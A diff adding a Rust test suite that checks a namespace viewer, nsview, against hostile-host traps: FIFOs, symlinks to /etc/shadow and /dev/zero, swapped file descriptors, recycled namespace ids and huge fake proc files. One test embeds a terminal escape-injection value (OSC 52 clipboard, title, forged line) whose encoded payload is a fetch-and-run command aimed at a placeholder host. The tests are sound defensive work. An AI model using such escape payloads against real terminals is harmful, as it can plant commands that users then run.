@@ -1,0 +1,612 @@
+//! The hostile host: one test per trap a container or an unprivileged user can set for a root
+//! nsview (FIFOs and symlinks where a namespace bind mount was, an fd swapped for a FIFO, a
+//! recycled namespace identity, and fake proc trees full of FIFOs, devices, symlinks and huge
+//! files). Each trap is made by the test and removed afterwards; nsview must finish within a
+//! few seconds, open no host file, and report the trap instead of following it.
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+use crate::util::{NamedNetns, Sleeper, fixtures, nsview, require_program, require_root};
+
+/// How long any nsview run may take with a trap on the host.
+const LIMIT: Duration = Duration::from_secs(10);
+/// What "finishes at once" means here (the machine may be loaded).
+const PROMPT: Duration = Duration::from_secs(5);
+
+/// One bounded run: its output, exit status, wall time and peak RSS.
+struct Run {
+    stdout: String,
+    stderr: String,
+    code: Option<i32>,
+    elapsed: Duration,
+    max_rss_kib: i64,
+}
+
+impl Run {
+    fn assert_prompt(&self, what: &str) {
+        assert!(
+            self.elapsed < PROMPT,
+            "{what} took {:?}; stderr: {}",
+            self.elapsed,
+            self.stderr
+        );
+        assert!(
+            !self.stderr.contains("panicked"),
+            "{what} panicked: {}",
+            self.stderr
+        );
+    }
+}
+
+/// Runs `cmd` with stdout/stderr in files, killing it (by PID) if it outlives [`LIMIT`], and
+/// reads its peak RSS from wait4's rusage.
+fn run_bounded(cmd: &mut Command, what: &str) -> Run {
+    let out = tempfile::NamedTempFile::new().expect("stdout file");
+    let err = tempfile::NamedTempFile::new().expect("stderr file");
+    let started = Instant::now();
+    // Reaped below by wait4 (for its rusage), not by Child::wait.
+    #[allow(clippy::zombie_processes)]
+    let child = cmd
+        .stdin(Stdio::null())
+        .stdout(out.reopen().expect("stdout"))
+        .stderr(err.reopen().expect("stderr"))
+        .spawn()
+        .expect("spawn");
+    let pid = child.id() as libc::pid_t;
+    let mut status = 0;
+    // SAFETY: an all-zero rusage is a valid value for wait4 to overwrite.
+    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
+    let mut killed = false;
+    loop {
+        // SAFETY: pid is our own unreaped child; status and usage are valid out-pointers.
+        let rc = unsafe { libc::wait4(pid, &mut status, libc::WNOHANG, &mut usage) };
+        if rc == pid {
+            break;
+        }
+        assert!(rc == 0, "wait4 failed for {what}");
+        if started.elapsed() > LIMIT && !killed {
+            let _ = nix::sys::signal::kill(
+                nix::unistd::Pid::from_raw(pid),
+                nix::sys::signal::Signal::SIGKILL,
+            );
+            killed = true;
+        }
+        std::thread::sleep(Duration::from_millis(10));
+    }
+    let elapsed = started.elapsed();
+    let read = |f: &tempfile::NamedTempFile| {
+        String::from_utf8_lossy(&std::fs::read(f.path()).unwrap_or_default()).into_owned()
+    };
+    let run = Run {
+        stdout: read(&out),
+        stderr: read(&err),
+        code: libc::WIFEXITED(status).then(|| libc::WEXITSTATUS(status)),
+        elapsed,
+        max_rss_kib: usage.ru_maxrss,
+    };
+    assert!(!killed, "{what} hung for {LIMIT:?} and was killed");
+    run
+}
+
+/// A directory the unprivileged trap maker may write to, removed on drop.
+fn shared_dir() -> tempfile::TempDir {
+    use std::os::unix::fs::PermissionsExt;
+    let dir = tempfile::Builder::new()
+        .prefix("nsview-hostile-")
+        .tempdir_in("/tmp")
+        .expect("tempdir");
+    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o777)).expect("chmod");
+    dir
+}
+
+/// The trap of issue 10, made by `nobody` in its own user and mount namespace: namespaces
+/// bind-mounted at `hide/trap*`, the mount points hidden under a tmpfs, and something else
+/// put at the same paths (`plant` runs inside, with `$D` the shared directory).
+struct Trap {
+    sleeper: Option<Sleeper>,
+    /// The namespaces only the hidden bind mounts hold: net, then uts.
+    inodes: Vec<u64>,
+    dir: tempfile::TempDir,
+}
+
+impl Trap {
+    fn plant(plant: &str) -> Trap {
+        Trap::plant_in("hide", plant)
+    }
+
+    /// As [`Trap::plant`], with the hidden directory named `hide` (any bytes but `/` and NUL;
+    /// `$H` is its path inside the script).
+    fn plant_in(hide: &str, plant: &str) -> Trap {
+        let dir = shared_dir();
+        let script = format!(
+            "set -e; D=$1; H=\"$D/$2\"; mkdir -p \"$H\"; touch \"$H/trap\" \"$H/trap2\"; \
+             unshare --net=\"$H/trap\" true; unshare --uts=\"$H/trap2\" true; \
+             stat -L -c %i \"$H/trap\" \"$H/trap2\" > $D/inodes.tmp; \
+             mount -t tmpfs none \"$H\"; {plant}; mv $D/inodes.tmp $D/inodes; exec sleep 60"
+        );
+        let dir_arg = dir.path().to_string_lossy().into_owned();
+        let sleeper = Sleeper::start(&[
+            "setpriv",
+            "--reuid=nobody",
+            "--regid=nogroup",
+            "--clear-groups",
+            "unshare",
+            "--user",
+            "--map-root-user",
+            "--mount",
+            "sh",
+            "-c",
+            &script,
+            "sh",
+            &dir_arg,
+            hide,
+        ]);
+        let inodes: Vec<u64> = std::fs::read_to_string(dir.path().join("inodes"))
+            .expect("trap inodes")
+            .split_whitespace()
+            .map(|n| n.parse().expect("inode"))
+            .collect();
+        assert_eq!(inodes.len(), 2, "two trapped namespaces");
+        Trap {
+            sleeper: Some(sleeper),
+            inodes,
+            dir,
+        }
+    }
+
+    fn path(&self) -> PathBuf {
+        self.dir.path().join("hide/trap")
+    }
+}
+
+impl Drop for Trap {
+    fn drop(&mut self) {
+        // The mount namespace, its tmpfs and its bind mounts die with their last process.
+        if let Some(sleeper) = self.sleeper.take() {
+            sleeper.stop();
+        }
+    }
+}
+
+fn trap_preconditions(test: &str) -> bool {
+    if !require_root(test) {
+        panic!("{test}: needs root");
+    }
+    require_program(test, "setpriv") && require_program(test, "unshare")
+}
+
+/// Every face over a trapped namespace: each finishes promptly, and the list faces name the
+/// trap in their note. Returns the runs by face name.
+fn every_face(inode: u64) -> Vec<(&'static str, Run)> {
+    let ino = inode.to_string();
+    let faces: Vec<(&'static str, Vec<&str>)> = vec![
+        ("--list", vec!["--list"]),
+        ("--list -J", vec!["--list", "-J"]),
+        ("--list -P", vec!["--list", "-P"]),
+        ("show", vec!["show", &ino]),
+        ("show --json", vec!["show", "--json", &ino]),
+        ("enter", vec!["enter", &ino, "true"]),
+    ];
+    faces
+        .into_iter()
+        .map(|(name, args)| {
+            let run = run_bounded(nsview().args(&args), name);
+            run.assert_prompt(name);
+            (name, run)
+        })
+        .collect()
+}
+
+#[test]
+#[ignore = "needs root"]
+fn fifo_at_a_hidden_bind_mount_freezes_nothing_and_is_reported() {
+    if !trap_preconditions("fifo_at_a_hidden_bind_mount") {
+        return;
+    }
+    let trap = Trap::plant("mkfifo \"$H/trap\"; mkfifo \"$H/trap2\"");
+    let net = trap.inodes[0];
+    let trap_path = trap.path().to_string_lossy().into_owned();
+    for (name, run) in every_face(net) {
+        match name {
+            "--list" | "--list -J" | "--list -P" => {
+                assert_eq!(run.code, Some(0), "{name}: {}", run.stderr);
+                assert!(run.stdout.contains(&net.to_string()), "{name} lists it");
+                let note = run
+                    .stderr
+                    .lines()
+                    .find(|l| l.contains("refused"))
+                    .unwrap_or_else(|| panic!("{name}: no refusal note: {}", run.stderr));
+                assert!(note.contains(&trap_path), "{name}: {note}");
+                assert!(
+                    note.contains("a FIFO, not a namespace file"),
+                    "{name}: {note}"
+                );
+            }
+            "show" | "show --json" => {
+                assert_eq!(run.code, Some(0), "{name}: {}", run.stderr);
+                assert!(
+                    run.stdout.contains("a FIFO, not a namespace file"),
+                    "{name}: {}",
+                    run.stdout
+                );
+            }
+            _ => {
+                assert_ne!(run.code, Some(0), "enter must refuse");
+                assert_eq!(run.stderr.trim_end().lines().count(), 1, "{}", run.stderr);
+                assert!(
+                    run.stderr.contains("a FIFO, not a namespace file"),
+                    "{}",
+                    run.stderr
+                );
+            }
+        }
+    }
+}
+
+#[test]
+#[ignore = "needs root"]
+fn control_bytes_in_a_trapped_bind_mount_path_stay_escaped() {
+    if !trap_preconditions("control_bytes_in_a_trapped_bind_mount_path") {
+        return;
+    }
+    // OSC 52 (clipboard), OSC 0 (title), a bell and a newline that would forge a line.
+    let hide = "h\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b]0;EVIL\x07\nFAKE LINE";
+    let trap = Trap::plant_in(hide, "mkfifo \"$H/trap\"; mkfifo \"$H/trap2\"");
+    let net = trap.inodes[0].to_string();
+    for args in [
+        vec!["--list"],
+        vec!["--list", "-P"],
+        vec!["--list", "-J"],
+        vec!["show", &net],
+        vec!["show", "--json", &net],
+        vec!["enter", &net, "true"],
+    ] {
+        let what = format!("{args:?}");
+        let run = run_bounded(nsview().args(&args), &what);
+        run.assert_prompt(&what);
+        for (stream, text) in [("stdout", &run.stdout), ("stderr", &run.stderr)] {
+            assert!(
+                !text.contains('\x1b') && !text.contains('\x07'),
+                "{what}: raw control byte on {stream}: {text:?}"
+            );
+            assert!(
+                !text.lines().any(|l| l.starts_with("FAKE LINE")),
+                "{what}: a forged line on {stream}: {text:?}"
+            );
+        }
+        if args[0] == "--list" && args.len() == 1 {
+            assert!(run.stderr.contains("\\x1b]52;c;"), "{what}: {}", run.stderr);
+        }
+    }
+}
+
+/// The `strace` of one nsview run: every open/openat/openat2 path it asked for.
+fn opened_paths(args: &[&str]) -> String {
+    let log = tempfile::NamedTempFile::new().expect("log");
+    let log_path = log.path().to_string_lossy().into_owned();
+    let mut cmd = Command::new("strace");
+    cmd.args([
+        "-f",
+        "-qq",
+        "-e",
+        "trace=open,openat,openat2",
+        "-o",
+        &log_path,
+    ])
+    .arg(env!("CARGO_BIN_EXE_nsview"))
+    .args(args)
+    .env("NO_COLOR", "1");
+    let run = run_bounded(&mut cmd, &format!("strace nsview {args:?}"));
+    assert!(!run.stderr.contains("panicked"), "{args:?}: {}", run.stderr);
+    std::fs::read_to_string(log.path()).expect("strace log")
+}
+
+#[test]
+#[ignore = "needs root"]
+fn symlinks_at_a_hidden_bind_mount_open_no_host_file() {
+    if !trap_preconditions("symlinks_at_a_hidden_bind_mount")
+        || !require_program("symlinks", "strace")
+    {
+        return;
+    }
+    let trap = Trap::plant("ln -s /etc/shadow \"$H/trap\"; ln -s /dev/zero \"$H/trap2\"");
+    let (net, uts) = (trap.inodes[0].to_string(), trap.inodes[1].to_string());
+    for args in [
+        vec!["--list"],
+        vec!["--list", "-P"],
+        vec!["show", &net],
+        vec!["show", &uts],
+        vec!["enter", &net, "true"],
+        vec!["enter", &uts, "true"],
+    ] {
+        let log = opened_paths(&args);
+        for host_file in ["/etc/shadow", "/dev/zero"] {
+            assert!(
+                !log.lines().any(|l| l.contains(&format!("\"{host_file}\""))),
+                "{args:?} opened {host_file}:\n{log}"
+            );
+        }
+        // The trapped paths were looked at, but only O_PATH, inside the trap's root.
+        for line in log.lines().filter(|l| l.contains("hide/trap")) {
+            assert!(line.contains("O_PATH"), "{args:?}: {line}");
+        }
+    }
+    let list = run_bounded(nsview().args(["--list", "-P"]), "--list -P");
+    list.assert_prompt("--list -P");
+    assert!(
+        list.stderr.contains("a symlink, not a namespace file"),
+        "{}",
+        list.stderr
+    );
+}
+
+#[test]
+#[ignore = "needs root"]
+fn an_fd_swapped_for_a_fifo_while_scanning_never_hangs() {
+    if !require_root("an_fd_swapped_for_a_fifo") {
+        panic!("needs root");
+    }
+    // The netns is held by its bind mount and by fd 3 of a shell that keeps swapping that fd
+    // between the namespace and a FIFO (`exec 3<>` is open + dup2), so the scan sees an nsfs
+    // fd that is a FIFO by the time it is opened, now and then.
+    let netns = NamedNetns::add("nsview-swap");
+    let dir = tempfile::tempdir().expect("tempdir");
+    let fifo = dir.path().join("fifo");
+    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o600)).expect("fifo");
+    let script = format!(
+        "sleep 60 & S=$!; trap 'kill $S' EXIT; while kill -0 $S 2>/dev/null; do \
+         exec 3<{ns}; exec 3<>{fifo}; done",
+        ns = netns.path().display(),
+        fifo = fifo.display()
+    );
+    let mut swapper = Command::new("sh")
+        .args(["-c", &script])
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .expect("swapper");
+    struct Kill(i32);
+    impl Drop for Kill {
+        fn drop(&mut self) {
+            let _ = nix::sys::signal::kill(
+                nix::unistd::Pid::from_raw(self.0),
+                nix::sys::signal::Signal::SIGKILL,
+            );
+        }
+    }
+    let guard = Kill(swapper.id() as i32);
+    let inode = netns.inode().to_string();
+    for round in 0..10 {
+        for args in [vec!["--list", "-P"], vec!["--list"], vec!["show", &inode]] {
+            let what = format!("round {round}: {args:?}");
+            let run = run_bounded(nsview().args(&args), &what);
+            run.assert_prompt(&what);
+            assert_eq!(run.code, Some(0), "{what}: {}", run.stderr);
+        }
+    }
+    drop(guard);
+    let _ = swapper.wait();
+}
+
+/// NS_GET_ID of a namespace file, through the library's own checked opener.
+fn ns_id_of(path: &str) -> u64 {
+    nsview::kernel::nsfs::open(&nsview::kernel::NsPath::ProcLink(path.into()), None)
+        .expect("open")
+        .identity
+        .ns_id
+        .expect("NS_GET_ID (Linux 6.12+)")
+}
+
+#[test]
+#[ignore = "needs root"]
+fn enter_refuses_a_namespace_whose_identity_changed() {
+    if !require_root("enter_refuses_a_namespace_whose_identity_changed") {
+        panic!("needs root");
+    }
+    let sleeper = Sleeper::start(&["unshare", "--uts", "sleep", "60"]);
+    let inode = sleeper.ns("uts");
+    let id = ns_id_of(&format!("/proc/{}/ns/uts", sleeper.pid));
+    let target = format!("uts:[{inode}]");
+    let wrong = (id + 1000).to_string();
+
+    // What the UI passes: the type, the inode and the id it displayed. The right id enters.
+    let ok = run_bounded(
+        nsview().args(["enter", &target, "--ns-id", &id.to_string(), "true"]),
+        "enter right id",
+    );
+    assert_eq!(ok.code, Some(0), "{}", ok.stderr);
+
+    // The inode now belongs to a namespace with another id: refused, one line, naming both.
+    let refused = run_bounded(
+        nsview().args(["enter", &target, "--ns-id", &wrong, "true"]),
+        "enter wrong id",
+    );
+    assert_eq!(refused.code, Some(1), "{}", refused.stderr);
+    assert_eq!(
+        refused.stderr.trim_end().lines().count(),
+        1,
+        "{}",
+        refused.stderr
+    );
+    assert!(
+        refused.stderr.contains(&format!(
+            "that namespace (id {wrong}) is gone; its inode now belongs to uts:[{inode}] (id {id})"
+        )),
+        "{}",
+        refused.stderr
+    );
+
+    // Another type on that inode (as when a net namespace takes a dead uts's inode).
+    let other_type = run_bounded(
+        nsview().args([
+            "enter",
+            &format!("net:[{inode}]"),
+            "--ns-id",
+            &wrong,
+            "true",
+        ]),
+        "enter wrong type",
+    );
+    assert_eq!(other_type.code, Some(1));
+    assert!(
+        other_type.stderr.contains("its inode now belongs to uts:"),
+        "{}",
+        other_type.stderr
+    );
+
+    // The namespace is gone altogether.
+    sleeper.stop();
+    let gone = run_bounded(
+        nsview().args(["enter", &target, "--ns-id", &id.to_string(), "true"]),
+        "enter gone",
+    );
+    assert_eq!(gone.code, Some(1));
+    assert!(gone.stderr.contains("is gone"), "{}", gone.stderr);
+}
+
+/// A copy of the show fixture's proc tree where every process's `file` is replaced by
+/// `plant(path)`.
+fn fake_root_with(file: &str, plant: impl Fn(&Path)) -> tempfile::TempDir {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let status = Command::new("cp")
+        .arg("-a")
+        .arg(fixtures().join("show-basic/proc"))
+        .arg(fixtures().join("show-basic/etc"))
+        .arg(dir.path())
+        .status()
+        .expect("cp");
+    assert!(status.success());
+    for entry in std::fs::read_dir(dir.path().join("proc")).expect("proc") {
+        let entry = entry.expect("entry");
+        let name = entry.file_name();
+        if !name.to_string_lossy().bytes().all(|b| b.is_ascii_digit()) {
+            continue;
+        }
+        let path = entry.path().join(file);
+        let _ = std::fs::remove_file(&path);
+        plant(&path);
+    }
+    dir
+}
+
+/// The fake-tree faces: list (table and JSON) and show (text and JSON) of the namespaces
+/// whose details read the planted file. All bounded in time and memory, none panics, every
+/// stderr line is one clean line.
+fn fake_faces(root: &Path, secret: Option<&str>) {
+    let proc_root = root.join("proc");
+    let proc_root = proc_root.to_string_lossy().into_owned();
+    let mut runs = Vec::new();
+    for args in [vec!["--list"], vec!["--list", "-J"]] {
+        runs.push((
+            args.clone(),
+            run_bounded(
+                nsview().args(&args).args(["--proc-root", &proc_root]),
+                "list",
+            ),
+        ));
+    }
+    // mnt (mountinfo), cgroup (cgroup), pid (status), user (uid_map/setgroups), time, net.
+    for inode in [
+        "4026532302",
+        "4026532306",
+        "4026532304",
+        "4026532310",
+        "4026532307",
+        "4026532303",
+    ] {
+        for json in [false, true] {
+            let mut args = vec!["show", inode];
+            if json {
+                args.push("--json");
+            }
+            runs.push((
+                args.clone(),
+                run_bounded(
+                    nsview().args(&args).args(["--proc-root", &proc_root]),
+                    "show",
+                ),
+            ));
+        }
+    }
+    for (args, run) in runs {
+        let what = format!("{args:?}");
+        run.assert_prompt(&what);
+        assert!(
+            run.max_rss_kib < 150 * 1024,
+            "{what}: peak RSS {} KiB",
+            run.max_rss_kib
+        );
+        assert!(matches!(run.code, Some(0 | 1)), "{what}: {:?}", run.code);
+        if let Some(secret) = secret {
+            assert!(
+                !run.stdout.contains(secret) && !run.stderr.contains(secret),
+                "{what} printed the host file"
+            );
+        }
+        for line in run.stderr.lines() {
+            assert!(
+                !line.chars().any(|c| c.is_control() && c != '\t'),
+                "{what}: raw control byte in {line:?}"
+            );
+        }
+    }
+}
+
+const PLANTED: [&str; 7] = [
+    "cmdline",
+    "stat",
+    "status",
+    "mountinfo",
+    "cgroup",
+    "uid_map",
+    "setgroups",
+];
+
+#[test]
+fn fake_proc_files_that_are_fifos_do_not_hang() {
+    for file in PLANTED {
+        let root = fake_root_with(file, |path| {
+            nix::unistd::mkfifo(path, nix::sys::stat::Mode::from_bits_truncate(0o600))
+                .expect("mkfifo");
+        });
+        fake_faces(root.path(), None);
+    }
+}
+
+#[test]
+fn fake_proc_files_that_link_to_dev_zero_are_not_read() {
+    for file in PLANTED {
+        let root = fake_root_with(file, |path| {
+            std::os::unix::fs::symlink("/dev/zero", path).expect("symlink");
+        });
+        fake_faces(root.path(), None);
+    }
+}
+
+#[test]
+fn fake_proc_files_that_link_to_a_host_file_are_not_followed() {
+    let host = tempfile::NamedTempFile::new().expect("host file");
+    let secret = format!("nsview-secret-{}", std::process::id());
+    std::fs::write(host.path(), format!("0 0 1\n{secret}\n")).expect("write");
+    for file in PLANTED {
+        let root = fake_root_with(file, |path| {
+            std::os::unix::fs::symlink(host.path(), path).expect("symlink");
+        });
+        fake_faces(root.path(), Some(&secret));
+    }
+}
+
+#[test]
+fn huge_fake_proc_files_cost_bounded_time_and_memory() {
+    for file in ["cmdline", "stat", "mountinfo", "status"] {
+        let root = fake_root_with(file, |path| {
+            let f = std::fs::File::create(path).expect("create");
+            // Sparse: 100 MB of NULs without writing them.
+            f.set_len(100 << 20).expect("set_len");
+        });
+        fake_faces(root.path(), None);
+    }
+}
